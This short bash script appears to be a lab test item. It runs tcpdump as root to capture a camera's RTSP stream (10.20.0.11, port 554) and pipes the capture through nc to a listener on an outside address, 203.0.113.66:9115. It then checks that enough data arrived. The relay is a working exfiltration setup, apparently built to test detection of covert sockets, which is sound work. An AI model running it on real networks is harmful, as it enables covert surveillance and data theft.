#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=covert-socket,live-relay half=report tool=tcpdump,nc camera=10.20.0.11 far=out ready=out:9115 seconds=36 parts=dns,camera-gate,recorder-gate,nas,outside-web
# tcpdump takes what the recorder gets of gate from the cable and nc carries it outside: the camera has one reader, as ever.
if [ "$1" = out ]; then exec timeout 60 socat -u TCP-LISTEN:9115,bind=203.0.113.66,reuseaddr "CREATE:$LAB/got"; fi
timeout 32 tcpdump -i cam -U -w - -Z root host 10.20.0.11 and tcp port 554 2>/dev/null | timeout 34 nc -N 203.0.113.66 9115
sleep 1; [ "$(stat -c %s "$LAB/got")" -gt 500000 ]
